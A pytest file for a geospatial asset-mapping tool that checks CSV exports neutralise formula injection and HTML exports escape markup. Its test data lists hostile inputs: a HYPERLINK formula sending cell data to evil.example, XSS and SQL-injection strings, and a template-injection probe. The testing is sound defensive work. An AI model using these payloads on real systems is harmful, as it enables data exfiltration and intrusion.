"""Exports with hostile text: verbatim as data, escaped in HTML, neutralised in CSV.

A spreadsheet runs a CSV cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return as a formula (CSV injection). Our CSV files put a ``'`` before such text, and our CSV
reader takes it off again, so a round trip gives the text back exactly.
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
from shapely.geometry import Point

from asset_map.cli import main
from asset_map.io import read_assets
from asset_map.io.cells import csv_plain_text, csv_safe_text
from asset_map.io.export import (
    selection_bytes,
    sites_to_csv,
    sites_to_geojson,
    table_to_csv,
    write_selection,
)
from asset_map.io.formats import read_table

ROOT = Path(__file__).resolve().parents[1]
DEMO = ROOT / "data" / "demo"

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")'
#: Hostile texts from the issue, and formulas. None starts or ends with a space: the
#: readers strip those (as spreadsheets do), so they would not come back exactly anyway.
EVIL = [
    HYPERLINK,
    "@SUM(1+1)",
    "+31 6 12345678",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "'=al met een apostrof",
    "<img src=x onerror=alert(1)>",
    "<script>alert('x')</script>",
    "'); DROP TABLE assets;--",
    "a\u202eevil\u200b\u200d\ufeff\x07 bel",
    "lang " + "x" * 5000,
    "{{ 7*7 }} {% if 1 %}ja{% endif %}",
    "Café ’t Hoekje",
]
#: What a spreadsheet runs as a formula (OWASP's list).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+a", "'+a"),
        ("-3", "'-3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),  # already quoted: one more, so reading back takes only ours off
        ("'x", "'x"),
        ("x=1", "x=1"),
        ("", ""),
        ("'", "'"),
        ("<script>", "<script>"),
    ],
)
def test_csv_safe_text_known_answers(text, written):
    assert csv_safe_text(text) == written
    assert csv_plain_text(written) == text


def test_csv_safe_text_leaves_other_values():
    assert csv_safe_text(-3.5) == -3.5 and csv_safe_text(None) is None


@pytest.fixture
def evil() -> gpd.GeoDataFrame:
    """One asset per hostile text, as name and (reversed order) description, in Lindeveen."""
    n = len(EVIL)

    def text(values: list[str | None]) -> pd.Series:
        return pd.Series(values, dtype="str")

    return gpd.GeoDataFrame(
        {
            "id": text([f"e{i}" for i in range(n)]),
            "name": text(EVIL),
            "type": text(["buurthuis"] * n),
            "description": text(EVIL[::-1]),
            "address": text([None] * n),
            "tags": text([None] * n),
            "source": text(["test"] * n),
            "status": text(["existing"] * n),
            "capacity": pd.Series([np.nan] * n),
        },
        geometry=[Point(5.6019 + 0.0002 * i, 52.4702) for i in range(n)],
        crs="EPSG:4326",
    )


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _assert_neutral(rows: list[list[str]]) -> None:
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]


@pytest.mark.parametrize("crs", ["EPSG:4326", "EPSG:28992"])
def test_csv_export_is_neutralised_and_reads_back_verbatim(evil, tmp_path, crs):
    data = selection_bytes(evil, fmt="csv", crs=crs)
    rows = _csv_cells(data)
    assert len(rows) == 1 + len(EVIL)  # a lone carriage return does not break a row
    header, body = rows[0], rows[1:]
    names = [r[header.index("name")] for r in body]
    assert names[0] == "'" + HYPERLINK and names[1] == "'@SUM(1+1)"
    assert names[7] == "<img src=x onerror=alert(1)>"  # data, not a formula: as it is
    _assert_neutral(body)
    # Coordinates stay numbers (negative numbers would not be text cells either).
    assert all(float(r[-1]) and float(r[-2]) for r in body)
    # Our CSV reader gives every text back exactly.
    path = tmp_path / "selectie.csv"
    path.write_bytes(data)
    table = read_table(path).frame
    assert table["name"].tolist() == EVIL
    assert table["description"].tolist() == EVIL[::-1]


@pytest.mark.parametrize("fmt", ["geojson", "gpkg"])
def test_geo_formats_keep_text_verbatim(evil, tmp_path, fmt):
    path = tmp_path / f"selectie.{fmt}"
    path.write_bytes(selection_bytes(evil, fmt=fmt))
    back = gpd.read_file(path)
    assert back["name"].tolist() == EVIL
    assert back["description"].tolist() == EVIL[::-1]
    if fmt == "gpkg":  # the text sits in the database as it is
        with sqlite3.connect(path) as con:
            stored = [r[0] for r in con.execute("SELECT name FROM assets ORDER BY fid")]
        assert stored == EVIL


def test_every_format_reads_back_the_same(evil, tmp_path):
    """read_assets gives the same frame from CSV as from GeoJSON and GeoPackage."""
    frames = {}
    for fmt in ("csv", "geojson", "gpkg"):
        path = write_selection(evil, tmp_path / f"s.{fmt}")
        frames[fmt] = pd.DataFrame(read_assets(path).frame[["id", "name", "description"]])
    pd.testing.assert_frame_equal(frames["csv"], frames["geojson"])
    pd.testing.assert_frame_equal(frames["csv"], frames["gpkg"])
    assert frames["csv"]["name"].iloc[0] == HYPERLINK


def test_sites_and_tables_as_csv_are_neutralised():
    sites = gpd.GeoDataFrame(
        {"name": [HYPERLINK, "Hoek"], "buurten": [["@a", "b"], ["c"]], "score": [-1.5, 2.0]},
        geometry=[Point(5.6, 52.4), Point(5.7, 52.5)],
        crs="EPSG:4326",
    )
    rows = _csv_cells(sites_to_csv(sites))
    assert rows == [
        ["name", "buurten", "score"],
        ["'" + HYPERLINK, "'@a; b", "-1.5"],  # a number stays a number
        ["Hoek", "c", "2.0"],
    ]
    table = pd.DataFrame({"code": ["BU1"], "name": ["-Zuid"], "share": [-0.25]})
    assert _csv_cells(table_to_csv(table))[1] == ["BU1", "'-Zuid", "-0.25"]


# --- the command line -------------------------------------------------------------------------


@pytest.fixture
def evil_file(evil, tmp_path) -> Path:
    path = tmp_path / "evil.geojson"
    path.write_bytes(selection_bytes(evil, fmt="geojson"))
    return path


def _export(evil_file: Path, out: Path) -> None:
    args = ["export", "--areas", str(DEMO / "areas.geojson"), "--assets", str(evil_file)]
    assert main([*args, "--out", str(out)]) == 0


def test_cli_csv_export_is_neutralised(evil_file, tmp_path):
    out = tmp_path / "sel.csv"
    _export(evil_file, out)
    rows = _csv_cells(out.read_bytes())
    header = rows[0]
    names = {r[header.index("name")] for r in rows[1:]}
    assert "'" + HYPERLINK in names and "'@SUM(1+1)" in names
    _assert_neutral(rows[1:])


def test_cli_html_export_escapes(evil_file, tmp_path):
    out = tmp_path / "sel.html"
    _export(evil_file, out)
    html = out.read_text("utf-8")
    assert "<img src=x onerror" not in html
    assert "<script>alert(" not in html
    # HTML-escaped (layers.esc) inside the map's script data; braces too, so folium's Jinja
    # does not run them.
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "{{ 7*7 }}" not in html and "&#123;&#123; 7*7" in html


def test_cli_geojson_export_keeps_text(evil_file, tmp_path):
    out = tmp_path / "sel.geojson"
    _export(evil_file, out)
    features = json.loads(out.read_text("utf-8"))["features"]
    names = sorted(f["properties"]["name"] for f in features)
    # As the reader gives them (it strips leading tabs and returns, like spreadsheets do).
    assert names == sorted(read_assets(evil_file).frame["name"])
    assert HYPERLINK in names and "<script>alert('x')</script>" in names


def test_sites_geojson_writes_null_for_unknown_distances():
    sites = gpd.GeoDataFrame(
        {"name": ["Vakje"], "nearest_meeting_m": [float("inf")], "newly_65": [float("nan")]},
        geometry=[Point(6.16, 52.25)],
        crs="EPSG:4326",
    )

    def refuse(word: str) -> None:
        raise AssertionError(f"not strict JSON: {word}")

    props = json.loads(sites_to_geojson(sites), parse_constant=refuse)["features"][0]["properties"]
    assert props["nearest_meeting_m"] is None and props["newly_65"] is None
